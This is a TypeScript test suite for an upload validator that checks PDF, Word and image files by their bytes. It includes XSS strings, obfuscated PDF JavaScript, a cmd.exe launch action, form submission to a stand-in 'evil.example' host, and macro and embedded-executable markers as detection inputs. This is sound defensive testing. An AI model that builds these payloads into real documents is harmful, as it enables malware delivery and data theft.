/** Only real files of the six types, judged by their bytes; nothing that runs by itself. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { growthOf, PROPORTIONAL } from '../../../../tests/support/growth'
import { FILE_TYPES, type FileType } from '../constants'
import { inspect } from './rules'

const latin = (text: string) => Uint8Array.from(text, (letter) => letter.charCodeAt(0))
const wide = (text: string) => [...text].map((letter) => `${letter}\0`).join('')

const CFB = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'
/** The beginning of the type without the rest. */
const BARE = { pdf: '%PDF-1.7', doc: CFB, docx: 'PK\x03\x04' } as const
const REAL: Readonly<Record<FileType, string>> = {
  pdf: '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n',
  doc: `${CFB}...${wide('Root Entry')}...${wide('WordDocument')}`,
  docx: 'PK\x03\x04...[Content_Types].xml...word/document.xml',
  jpg: '\xff\xd8\xff\xe0..',
  png: '\x89PNG\r\n\x1a\n..',
  gif: 'GIF89a..',
}

describe('each type against each content', () => {
  for (const type of FILE_TYPES)
    for (const content of FILE_TYPES)
      it(`${content} under the name of ${type}`, () =>
        expect(inspect(latin(REAL[content]), type)).toBe(type === content ? undefined : 'FILE_CONTENT'))
})

it.each<[string, FileType, string]>([
  ['a web page', 'doc', '<!doctype html><script>alert(1)</script>'],
  ['a vector drawing', 'png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['an old workbook', 'doc', `${CFB}...${wide('Workbook')}`],
  ['a new workbook', 'docx', 'PK\x03\x04...[Content_Types].xml...xl/workbook.xml'],
  ['an archive', 'docx', 'PK\x03\x04...virus.exe'],
  ['a page before a PDF', 'pdf', `<html>${REAL.pdf}`],
  ['half a PDF', 'pdf', '%PDF-1.7\n1 0 obj<</Type/Catalog>>'],
  ['nothing', 'gif', ''],
])('%s is no %s', (_what, type, content) => expect(inspect(latin(content), type)).toBe('FILE_CONTENT'))

it.each<[string, FileType, string]>([
  ['JavaScript', 'pdf', '<</S/JavaScript/JS(app.alert(1))>>'],
  ['hidden JavaScript', 'pdf', '<</S/J#61va#53cript>>'],
  ['a call of a program', 'pdf', '<</S /Launch /F (cmd.exe)>>'],
  ['a file inside', 'pdf', '<</EmbeddedFile 3 0 R>>'],
  ['files inside', 'pdf', '<</Names<</EmbeddedFiles 3 0 R>>>>'],
  ['a form that is sent away', 'pdf', '<</S/SubmitForm/F(https://evil.example)>>'],
  ['a hidden form that is sent away', 'pdf', '<</S/Submit#46orm>>'],
  ['data that is fetched', 'pdf', '<</S /ImportData /F (x.fdf)>>'],
  ['a way into an embedded file', 'pdf', '<</S/GoToE/T<</R/C>>>>'],
  ['macros', 'doc', wide('_VBA_PROJECT')],
  ['macros', 'doc', wide('Macros')],
  ['a program', 'doc', `\x01${wide('Ole10Native')}`],
  ['macros', 'docx', 'word/vbaProject.bin'],
  ['a program', 'docx', 'word/embeddings/oleObject1.bin'],
  ['a program after a sheet', 'docx', 'word/embeddings/sheet.xlsx\0PK word/embeddings/Setup.EXE'],
])('%s in a %s', (_what, type, content) =>
  expect(inspect(latin(`${REAL[type]}${content}`), type)).toBe('FILE_ACTIVE'),
)

it('a longer word with the same beginning is not found', () =>
  expect(inspect(latin(`${REAL.pdf}/JSon /Launchpad /GoToEnd /GoTo /GoToR`), 'pdf')).toBeUndefined())

describe('bytes that were chosen to slow the search down', () => {
  /** A file of this length, with this over and over. */
  const full = (length: number, beginning: string, again: string) => {
    const bytes = Buffer.alloc(length, again, 'latin1')
    bytes.write(beginning, 'latin1')
    return bytes
  }
  const AGAIN: Readonly<Record<'pdf' | 'doc' | 'docx', readonly string[]>> = {
    pdf: ['/', '#', '/J', '#41', '/#4', '/Java#53crip', '/EmbeddedFile#', '/JSa', '#2f#4a', '%%EO'],
    doc: [wide('Macro'), wide('_VBA_PROJEC'), wide('Ole10Nativ'), wide('WordDocumen'), 'M\0', '_\0', '\0'],
    docx: [
      ...['word/', 'word/vbaProject.bi', 'word/activeX', '[Content_Types].xm', 'word/document.xm'],
      ...[
        'word/embeddings/',
        'word/embeddings/.',
        'word/embeddings/.bi',
        'word/embeddings/ ',
        'WORD/embeddings/\0',
      ],
    ],
  }
  const beginningOf = { pdf: REAL.pdf, doc: REAL.doc, docx: REAL.docx }
  for (const type of ['pdf', 'doc', 'docx'] as const)
    it.each(AGAIN[type])(`%j over and over in a ${type} is searched in proportion to its length`, (again) => {
      for (const beginning of [beginningOf[type], BARE[type]]) {
        const growth = growthOf(
          (length) => full(length, beginning, again),
          (bytes) => void inspect(bytes, type),
        )
        expect(growth).toBeLessThan(PROPORTIONAL)
      }
    })
})

describe('finds the same as a plain, slow search', () => {
  const pieces = [
    '/',
    '#2F',
    'J',
    'S',
    '#4a',
    '#4A',
    '#53',
    '#5',
    '#',
    '41',
    '4',
    'a',
    'Z',
    '#7a',
    '#5b',
    ' ',
  ]
  it('in names of a PDF', () => {
    const slow = (text: string) =>
      /\/JS(?![A-Za-z])/.test(
        text.replace(/#([0-9a-f]{2})/gi, (_, hex) => String.fromCharCode(Number.parseInt(hex, 16))),
      )
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 8 }), (some) => {
        const text = some.join('')
        expect(inspect(latin(`${REAL.pdf}${text}`), 'pdf')).toBe(slow(text) ? 'FILE_ACTIVE' : undefined)
      }),
      { numRuns: 20_000 },
    )
  })

  it('in names of embedded parts', () => {
    const names = [
      'word/embeddings/',
      'Word/Embeddings/',
      'a',
      '.bin',
      '.EXE',
      '.js',
      '.',
      'b',
      ' ',
      '\0',
      '\n',
    ]
    const slow = (text: string) => /word\/embeddings\/[^\s\0]*\.(?:bin|exe|js)/i.test(text)
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...names), { maxLength: 8 }), (some) => {
        const text = some.join('')
        expect(inspect(latin(`${REAL.docx}${text}`), 'docx')).toBe(slow(text) ? 'FILE_ACTIVE' : undefined)
      }),
      { numRuns: 20_000 },
    )
  })
})
